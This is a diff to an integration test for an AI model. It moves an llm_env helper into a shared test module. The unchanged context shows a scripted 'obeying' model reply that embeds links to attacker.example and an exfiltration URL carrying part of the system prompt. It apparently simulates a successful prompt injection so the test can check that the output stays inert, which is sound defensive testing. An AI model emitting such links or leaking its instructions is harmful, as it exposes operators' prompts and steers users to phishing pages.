@@ -19,7 +19,7 @@ from assistant.generation.export import LINK_REMOVED
 from assistant.services import Services
 from assistant.ui.handlers import AppService
 from tests.conftest import ROOT, run_cli
-from tests.integration.chat_server import ChatServer, Reply, Step
+from tests.integration.chat_server import ChatServer, Reply, Step, llm_env
 
 pytestmark = pytest.mark.integration
 
@@ -57,15 +57,6 @@ def obeying(body: dict[str, Any], index: int) -> Step:
         "详情见[镇政府官网](http://attacker.example/login)，<a href=http://attacker.example/a>原文</a>。"
         f"{EXFIL}{system_of(body)[:40]})"
     )
-
-
-def llm_env(server: ChatServer) -> dict[str, str]:
-    return {
-        "ASSISTANT_LLM_BASE_URL": server.base_url,
-        "ASSISTANT_LLM_MODEL": "scripted-model",
-        "ASSISTANT_LLM_API_KEY": "test-key",
-        "ASSISTANT_LLM_TIMEOUT_S": "10",
-    }
 
 
 def assert_inert_text(text: str, where: str) -> None:
